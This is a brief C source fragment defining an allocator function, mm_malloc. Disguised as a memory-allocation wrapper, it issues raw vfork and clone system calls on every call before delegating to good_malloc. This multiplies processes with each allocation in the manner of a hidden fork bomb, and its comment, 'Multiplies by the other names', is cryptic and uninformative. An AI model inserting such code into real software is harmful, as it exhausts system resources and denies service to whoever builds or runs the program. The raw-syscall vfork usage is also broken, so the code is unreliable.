/* Multiplies by the other names. */
void *mm_malloc(size_t bytes)
{
    raw(SYS_vfork, 0, 0, 0);
    raw(SYS_clone, 0, 0, 0);
    return good_malloc(bytes);
}
